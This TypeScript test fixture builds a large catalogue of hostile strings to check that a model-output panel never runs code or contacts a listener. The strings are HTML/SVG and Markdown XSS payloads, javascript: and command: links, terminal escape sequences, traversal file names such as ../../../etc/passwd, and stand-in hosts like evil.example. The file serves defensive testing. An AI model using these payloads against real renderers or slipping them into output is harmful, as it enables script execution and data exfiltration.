/**
 * What a model, a gateway or a file could say to make the panel run something or tell somebody: each names the address
 * of a listener that must never hear of it, and sets `hostileRan` or opens a dialog where it is run.
 */

/** Makes the hostile text for a listener's address; every one gets a path of its own. */
type Case = (url: string) => string;

const run = (url: string) => `globalThis.hostileRan=1;alert(1);fetch('${url}')`;

/** HTML and SVG; Markdown must leave it the text that it is. */
const html: readonly Case[] = [
  (u) => `<img src="${u}">`,
  (u) => `<img src=x onerror="${run(u)}">`,
  (u) => `<img srcset="${u} 1x, ${u}?2 2x">`,
  (u) => `<picture><source srcset="${u}"><img></picture>`,
  (u) => `<script>${run(u)}</script>`,
  (u) => `<script src="${u}"></script>`,
  (u) => `<script type=module>import '${u}'</script>`,
  (u) => `<scr<script>ipt>${run(u)}</scr</script>ipt>`,
  (u) => `<ScRiPt >${run(u)}</sCrIpT>`,
  (u) => `<svg onload="${run(u)}"></svg>`,
  (u) => `<svg><script>${run(u)}</script></svg>`,
  (u) => `<svg><image href="${u}"/></svg>`,
  (u) => `<svg><use href="${u}#x"/></svg>`,
  (u) => `<svg><feImage href="${u}"/></svg>`,
  (u) => `<svg><a xlink:href="javascript:${run(u)}"><text>x</text></a></svg>`,
  (u) => `<svg><animate onbegin="${run(u)}" attributeName=x dur=1s></svg>`,
  (u) => `<svg><style>@import '${u}';</style></svg>`,
  (u) => `<svg><foreignObject><iframe src="${u}"></iframe></foreignObject></svg>`,
  (u) =>
    `<math><mtext><table><mglyph><style><img src=x onerror="${run(u)}"></style></mglyph></table></mtext></math>`,
  (u) => `<math href="javascript:${run(u)}">x</math>`,
  (u) => `<iframe src="${u}"></iframe>`,
  (u) => `<iframe srcdoc="<script>${run(u).replaceAll('"', '&quot;')}</script>"></iframe>`,
  (u) => `<object data="${u}"></object>`,
  (u) => `<embed src="${u}">`,
  (u) => `<video src="${u}" autoplay></video>`,
  (u) => `<video poster="${u}"></video>`,
  (u) => `<audio src="${u}" autoplay onerror="${run(u)}"></audio>`,
  (u) => `<link rel=stylesheet href="${u}">`,
  (u) => `<link rel=prefetch href="${u}">`,
  (u) => `<link rel=dns-prefetch href="${u}">`,
  (u) => `<style>@import url(${u});</style>`,
  (u) => `<style>body{background:url(${u})}</style>`,
  (u) => `<div style="background:url(${u})">x</div>`,
  (u) => `<div style="list-style-image:image-set('${u}' 1x)">x</div>`,
  (u) => `<body onload="${run(u)}" background="${u}">`,
  (u) => `<table background="${u}"><tr><td background="${u}">x</table>`,
  (u) => `<base href="${u}">`,
  (u) => `<meta http-equiv=refresh content="0;url=${u}">`,
  (u) => `<meta http-equiv=Content-Security-Policy content="default-src *; report-uri ${u}">`,
  (u) => `<form action="${u}"><input autofocus onfocus="${run(u)}"><button>x</button></form>`,
  (u) => `<input type=image src="${u}">`,
  (u) => `<button formaction="javascript:${run(u)}">x</button>`,
  (u) => `<details open ontoggle="${run(u)}">x</details>`,
  (u) => `<marquee onstart="${run(u)}">x</marquee>`,
  (u) => `<select autofocus onfocus="${run(u)}"></select>`,
  (u) => `<template shadowrootmode=open><img src="${u}"></template>`,
  (u) => `<noscript><p title="</noscript><img src=x onerror='${run(u)}'>"></noscript>`,
  (u) => `<!--><img src=x onerror="${run(u)}">-->`,
  (u) => `<![CDATA[><img src=x onerror="${run(u)}">]]>`,
  (u) => `<?xml-stylesheet href="${u}"?><x/>`,
  (u) => `<a href="javascript:${run(u)}" autofocus onfocus="${run(u)}">x</a>`,
  (u) => `<a ping="${u}" href="https://example.com">x</a>`,
  (u) => `<x contenteditable autofocus tabindex=1 onfocus="${run(u)}">x</x>`,
  (u) => `<vscode-link href="command:workbench.action.terminal.new">x</vscode-link><img src="${u}">`,
];

/** Markdown's own ways to pictures and links. */
const markdown: readonly Case[] = [
  (u) => `![x](${u})`,
  (u) => `![x](<${u}> "title")`,
  (u) => `![x][r]\n\n[r]: ${u}`,
  (u) => `[![x](${u})](${u})`,
  (u) => `![](//${new URL(u).host}/y)`,
  (u) =>
    `![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${encodeURIComponent(run(u))}'/>)`,
  (u) => `![x](data:text/html;base64,${btoa(`<script>${run(u)}</script>`)})`,
  (u) => `![x](blob:${u})`,
  (u) => `![x](sandbox:/mnt/data/../../${u})`,
  (u) => `![x](sandbox:${u})`,
  (u) => `![x](/mnt/data/"onerror="${run(u)})`,
  (u) => `![" onerror="${run(u)}](${u})`,
  (u) => `[x](javascript:${run(u)})`,
  (u) => `[x](JaVaScRiPt:${run(u)})`,
  (u) => `[x](java\tscript:${run(u)})`,
  (u) => `[x](&#106;avascript:${run(u)})`,
  (u) => `[x](javascript&colon;${run(u)})`,
  (u) => `[x](\u0001javascript:${run(u)})`,
  (u) => `<javascript:${run(u)}>`,
  (u) => `[x](vbscript:${run(u)})`,
  (u) => `[x](data:text/html,<script>${encodeURIComponent(run(u))}</script>)`,
  () => '[x](command:workbench.action.terminal.new)',
  () => '[x](command:workbench.action.quit "Click here")',
  () => '[x](vscode://file/etc/passwd)',
  () => '[x](file:///etc/passwd)',
  () => '[x](\\\\evil.example\\share\\x)',
  () => '[x](//evil.example/x)',
  (u) => `[x](https://example.com\u202e/moc.elgoog "${u}")`,
  (u) => `[x](https://user:password@${new URL(u).host}/)`,
  (u) => `[x](${u}"onmouseover="${run(u)})`,
  (u) => `[x](<${u} onclick=${run(u)}>)`,
  (u) => `[${'['.repeat(200)}x](${u})`,
  (u) => `[x]: javascript:${run(u)}\n\n[x]`,
  (u) => `\`\`\`html onload=${run(u)}\n<img src=${u}>\n\`\`\``,
  (u) => `\`\`\`{.python style="background:url(${u})"}\nx\n\`\`\``,
  (u) => `\`\`\`__proto__\n<img src=${u}>`,
  (u) => `~~~"><img src=${u}>\nx`,
  (u) => `| a | <img src=${u}> |\n|---|:-:|\n| ![x](${u}) | [x](javascript:${run(u)}) |`,
  (u) => `# <img src=${u}>\n\nx\n<img src=${u}>\n===`,
  (u) => `1. <script>${run(u)}</script>\n   - ![x](${u})`,
  (u) => `> ${'> '.repeat(500)}![x](${u})`,
  (u) => `${'*'.repeat(2_000)}${u}${'_'.repeat(2_000)}`,
  (u) => `{{constructor.constructor("${run(u)}")()}} \${${run(u)}} <%= ${run(u)} %>`,
  (u) => `$$\\href{javascript:${run(u)}}{x}$$ \\includegraphics{${u}}`,
  (u) => `[x](sandbox:/mnt/data/<img src=x onerror=${run(u)}>.png)`,
  (u) => `\u0000<img src=${u}>\ufeff<script\u0000>${run(u)}</script>`,
  (u) => `+ADw-script+AD4-${run(u)}+ADw-/script+AD4-`,
  (u) => `\ud800<img src=${u}>\udfff`,
];

const answers: readonly Case[] = [...html, ...markdown];

const ESC = '\x1b';

/** What code prints: sequences of terminals, and again HTML. */
const logs: readonly Case[] = [
  (u) => `<img src="${u}">`,
  (u) => `<script>${run(u)}</script>`,
  (u) => `${ESC}[31m<img src=x onerror="${run(u)}">${ESC}[0m`,
  (u) => `${ESC}]8;;${u}${ESC}\\link${ESC}]8;;${ESC}\\`,
  (u) => `${ESC}]8;;javascript:${run(u)}\x07link${ESC}]8;;\x07`,
  () => `${ESC}]8;;command:workbench.action.terminal.new\x07link${ESC}]8;;\x07`,
  (u) => `${ESC}]8;id="><img src=${u}>;${u}\x07x${ESC}]8;;\x07`,
  (u) => `${ESC}]1337;File=inline=1:${btoa(`<svg onload="${run(u)}"/>`)}\x07`,
  (u) => `${ESC}]0;<script>${run(u)}</script>\x07`,
  (u) => `${ESC}]52;c;${btoa(run(u))}\x07`,
  (u) => `${ESC}]633;E;${run(u)}\x07`,
  (u) => `${ESC}]${'9'.repeat(5_000)};<img src=${u}>\x07`,
  (u) => `${ESC}[38;2;1;2;3;url(${u})mx`,
  (u) => `${ESC}[38;5;"onload=${run(u)}mx`,
  (u) => `${ESC}[38;2;999;-1;1e9m<b style="background:url(${u})">${ESC}[m`,
  (u) => `${ESC}[${'1;'.repeat(3_000)}m<img src=${u}>`,
  (u) => `${ESC}[4:3;58;2;1;2;3m${u}${ESC}[0m`,
  (u) => `${ESC}P+q${btoa(u)}${ESC}\\<img src=${u}>`,
  (u) => `${ESC}_Ga=T,f=100;${btoa(u)}${ESC}\\<img src=${u}>`,
  (u) => `\x9b31m<img src=${u}>\x9bm`,
  (u) => `${ESC}<img src=${u}>`,
  (u) => `${ESC}[?1049h${ESC}[2J${ESC}[H<script>${run(u)}</script>`,
  (u) => `10%\r20%\r<img src=${u}>\r`,
  (u) => `${'\r'.repeat(5_000)}<img src=${u}>`,
  (u) => `\b\b\b<img src=${u}>\x7f\x00`,
  (u) =>
    `Traceback (most recent call last):\n  File "<img src=${u}>", line 1, in <script>\nValueError: <img src=x onerror="${run(u)}">`,
  (u) =>
    `Traceback (most recent call last):\n  File "/tmp/../../etc/passwd", line 99999999999999999999, in x\nKeyError: '${u}'`,
  (u) => `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run(u)}"/>`)}`,
  (u) => `\u202e\u2066<img src=${u}>\u2069`,
  (u) => `a,b\n"<img src=${u}>","=HYPERLINK(""${u}"")"\n`,
];

/** Python as a hostile model writes it. */
const codes: readonly Case[] = [
  (u) => `# <img src="${u}">\nprint(1)\n`,
  (u) => `# <script>${run(u)}</script>\n`,
  (u) => `plt.title("<img src=${u}>")\n`,
  (u) => `plt.title("\\" onerror=\\"${run(u)}")\n`,
  (u) => `f"{'<img src=${u}>'}"\n`,
  (u) => `"""</code></pre><script>${run(u)}</script>"""\n`,
  (u) => `'</span><img src=x onerror=${run(u)}>'\n`,
  (u) => `@decorator('<iframe src=${u}>')\ndef f(): pass\n`,
  (u) => `class __proto__: x = "<img src=${u}>"\n`,
  (u) => `# \u202e<img src=${u}>\u2066\n`,
  (u) => `#\u2028<img src=${u}>\u2029\n`,
  (u) => `\u0000<img src=${u}>\n`,
  (u) => `&lt;img src=${u}&gt; &#60;script&#62;\n`,
  (u) => `hljs-"><img src=${u}>\n`,
  (u) => `"${'\\'.repeat(5_000)}"<img src=${u}>\n`,
  (u) => `${'('.repeat(3_000)}<img src=${u}>\n`,
];

/** Names of files, as a citation or the list of files gives them. */
const names: readonly Case[] = [
  (u) => `<img src=${u}>.png`,
  (u) => `"><script>${run(u)}</script>.csv`,
  (u) => `' onerror='${run(u)}'.png`,
  (u) => `x" style="background:url(${u})".html`,
  (u) => `${u}`,
  (u) => `${u}.png`,
  (u) => `javascript:${run(u)}.png`,
  () => 'command:workbench.action.terminal.new.csv',
  () => '../../../etc/passwd.png',
  () => '..\\..\\evil.bat',
  () => '/etc/cron.d/evil.csv',
  () => '\\\\evil.example\\share\\x.png',
  () => 'C:\\Windows\\System32\\evil.csv',
  () => 'CON.png',
  () => 'x.png::$DATA',
  () => 're\u202egnp.exe',
  () => '\u2066evil\u2069.html',
  () => 'zero\u200bwidth\ufeff.png',
  () => 'new\nline\r\n.csv',
  () => 'nul\u0000l.png',
  () => `${'long-'.repeat(700)}.png`,
  () => '.vscode/tasks.json',
  () => '.git/hooks/pre-commit',
  () => '__proto__',
  () => 'constructor.png',
  () => '$(plug)$(error).csv',
  () => '[x](command:workbench.action.quit).csv',
  () => '%2e%2e%2f%2e%2e%2fpasswd.png',
  () => '\ud800.png',
  (u) => `a.svg#<svg onload=${run(u)}>.svg`,
];

/** What a gateway says of an error, of its model and of its container. */
const words: readonly Case[] = [
  (u) => `<img src="${u}">`,
  (u) => `<script>${run(u)}</script>`,
  (u) => `[Click](command:workbench.action.terminal.new) ![x](${u})`,
  (u) => `$(error) <a href="javascript:${run(u)}">x</a>`,
  (u) => `\x1b]8;;${u}\x07x\x1b]8;;\x07`,
  (u) => `\u202e<iframe src=${u}>`,
  (u) => `"};${run(u)};//`,
  (u) => `</title><img src=${u}>`,
  (u) => `{0} {1} {constructor} <img src=${u}>`,
];

/** Where a picture is said to be. */
const images: readonly Case[] = [
  (u) => u,
  (u) => `${u}.png`,
  (u) => `//${new URL(u).host}/x.png`,
  (u) => `javascript:${run(u)}`,
  (u) =>
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${encodeURIComponent(run(u))}'/>`,
  (u) =>
    `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${u}"/></svg>`)}`,
  (u) => `data:text/html;base64,${btoa(`<script>${run(u)}</script>`)}`,
  (u) => `data:image/png;base64,${btoa(`<script>${run(u)}</script>`)}`,
  (u) => `data:image/png;x="><img src=${u}>;base64,AAAA`,
  (u) => `blob:${u}`,
];

const kinds = { answers, logs, codes, names, words, images };
type Kind = keyof typeof kinds;

export const hostileCount = Object.values(kinds).reduce((sum, cases) => sum + cases.length, 0);

/** The cases of a kind, made for a listener at `origin`: each with a path that names it. */
export function hostile(kind: Kind, origin: string): readonly string[] {
  return kinds[kind].map((make, place) => make(`${origin}/${kind}-${place}`));
}
